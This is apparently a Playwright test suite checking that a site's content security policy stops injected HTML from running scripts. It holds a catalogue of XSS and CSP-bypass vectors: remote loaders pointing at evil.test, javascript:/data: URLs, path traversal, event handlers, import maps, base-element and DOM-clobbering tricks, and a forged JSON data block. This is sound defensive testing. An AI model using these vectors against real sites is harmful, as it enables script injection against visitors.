import { expect } from '@playwright/test'
import { loaderScript, themeScript } from '../../../server/pages/render/content-security-policy'
import { test } from '../../../testing/browser-test'
import { addressOn } from '../../../testing/navigate'
import { type TestSite } from '../../../testing/site'

/**
 * A flaw that lets an attacker write HTML into a page must not let scripts run. The test writes the
 * HTML into the page on purpose; the policy is the page's own.
 */
let site: TestSite
test.beforeAll(async ({ sharedSite }) => {
  site = await sharedSite()
})

const loader = (entry: string): string => `<script data-entry="${entry}">${loaderScript}</script>`
const quoted = (html: string): string => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** `file`: the attacker's script on another site. `run`: the same as text. */
type Attack = (file: string, run: string) => string

/** They do not disturb each other, so one page holds all of them. */
const together: Record<string, Attack> = {
  'a script of another site': (file) => loader(`https://${file}`),
  'another site and no scheme': (file) => loader(`//${file}`),
  backslashes: (file) => loader(`\\\\${file} /\\${file} https:\\\\${file}`),
  'a tab and a line feed': (file) => loader(`ht&#9;tp://${file} /&#10;/${file}`),
  'upper case and a user name': (file) => loader(`HTTP://user@${file}`),
  'a path that leaves /assets/': (file) => loader(`/assets/../${file}`),
  'an encoded path that leaves /assets/': (file) =>
    loader(`/assets/%2e%2e/${file} /assets/..%2f${file} /assets/%2e%2e%2f${file}`),
  'a path that leaves /assets/ with backslashes': (file) =>
    loader(`/assets/..\\${file} /assets/x\\..\\..\\${file}`),
  'a path beside /assets/': (file) => loader(`/${file} ./${file} ${file} /assets.${file}`),
  'another site behind /assets/': (file) => loader(`/assets//${file} /assets/https://${file}`),
  'a data: URL': (_file, run) => loader(`data:text/javascript,${run}`),
  'a blob: URL': (file) => loader(`blob:https://${file}`),
  'a javascript: URL': (_file, run) => loader(`javascript:${run}`),
  'a file of the build, then another site': (file) => loader(`/assets/none.js https://${file}`),
  'a loader in a frame': (file) =>
    `<iframe srcdoc="${quoted(loader(`https://${file}`))}"></iframe>`,
  'a loader in a shadow root': (file) =>
    `<div><template shadowrootmode="open">${loader(`https://${file}`)}</template></div>`,
  'a script in a shadow root': (_file, run) =>
    `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  'an inline script': (_file, run) => `<script>${run}</script>`,
  'an external script': (file) =>
    `<script src="https://${file}"></script><script src="/${file}"></script>`,
  'a module': (file, run) =>
    `<script type="module" src="https://${file}"></script><script type="module">${run}</script>`,
  'an import map': (file) =>
    `<script type="importmap">{"imports":{"/assets/":"https://${file}"}}</script>`,
  'hashed scripts with something added': (_file, run) =>
    `<script>${themeScript};${run}</script><script>${loaderScript};${run}</script>`,
  'event handlers': (_file, run) =>
    `<img src="/none.png" onerror="${run}"><svg onload="${run}"></svg><details open ontoggle="${run}">`,
  frames: (file, run) =>
    `<iframe src="javascript:${run}"></iframe><iframe src="https://${file}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  objects: (file) =>
    `<object data="https://${file}"></object><embed src="https://${file}"></embed>`,
  'scripts in SVG and MathML': (file, run) =>
    `<svg><script href="https://${file}"></script><script>${run}</script></svg><math><script>${run}</script></math>`,
}

/** They change what follows them. */
const alone: Record<string, Attack> = {
  'a base element': (file) => `<base href="https://${file}/">${loader(`x.js /assets/x.js`)}`,
  'elements that replace document.currentScript': (file) =>
    `<img name="currentScript" data-entry="https://${file}">${loader('')}`,
  'a form that replaces document.currentScript': (file) =>
    `<form name="currentScript" data-entry="https://${file}"></form>${loader('')}`,
}

const pages = [
  ['all scripts and loaders', together],
  ...Object.entries(alone).map(([name, attack]) => [name, { [name]: attack }] as const),
] as const
for (const [title, attacks] of pages)
  test(`injected HTML runs nothing: ${title}`, async ({ page, context }) => {
    const names = Object.keys(attacks)
    const runOf = (name: string): string => `(top.attacked??=[]).push(${names.indexOf(name)})`
    const html = names.map((name, index) => attacks[name]?.(`evil.test/${index}/x.js`, runOf(name)))
    const requested = new Set<string | undefined>()
    // Paths with `evil.test` in them are on this site.
    await context.route(/evil\.test\/\d+/, (route) => {
      const name = names[Number(/evil\.test\/(\d+)/.exec(route.request().url())?.[1])]
      requested.add(name)
      return route.fulfill({ contentType: 'text/javascript', body: runOf(name ?? '') })
    })
    const address = addressOn(site, 'en', '/faq')
    await context.route(address, async (route) => {
      const response = await route.fetch()
      const body = await response.text()
      const injected = body.replace('<div id="root">', (start) => `${html.join('\n')}${start}`)
      expect(injected).not.toBe(body)
      await route.fulfill({ response, body: injected })
    })
    // The load event waits for the scripts that loaders insert.
    await page.goto(address)
    const ran = await page.evaluate(() => (window as { attacked?: number[] }).attacked ?? [])
    expect(ran.map((index) => names[index])).toEqual([])
    expect([...requested]).toEqual([])
  })

test('an injected data block loads no script of another site', async ({ page, context }) => {
  const requested: string[] = []
  await context.route('https://evil.test/**', (route) => {
    requested.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: '' })
  })
  const visitor = {
    consentCountries: [],
    oneTap: null,
    chat: { defaultScript: 'https://evil.test/chat.js', skipIp: '' },
    statistics: { head: ['https://evil.test/head.js'], body: ['https://evil.test/body.js'] },
  }
  const address = addressOn(site, 'en', '/faq')
  await context.route(address, async (route) => {
    const response = await route.fetch()
    const body = await response.text()
    const block =
      /<script type="application\/json" id="view">(.*?)<\/script>/s.exec(body)?.[1] ?? ''
    const view = JSON.parse(block) as { site: object }
    const forged = JSON.stringify({ ...view, site: { ...view.site, visitor } })
    await route.fulfill({
      response,
      body: body.replace(
        '<div id="root">',
        (start) => `<div id="view" hidden>${forged.replaceAll('<', '&lt;')}</div>${start}`,
      ),
    })
  })
  // The services that load scripts of other sites have started when they ask for the address.
  const started = page.waitForResponse(/get-visitor-ip/)
  await page.goto(address)
  await started
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
  expect(requested).toEqual([])
})
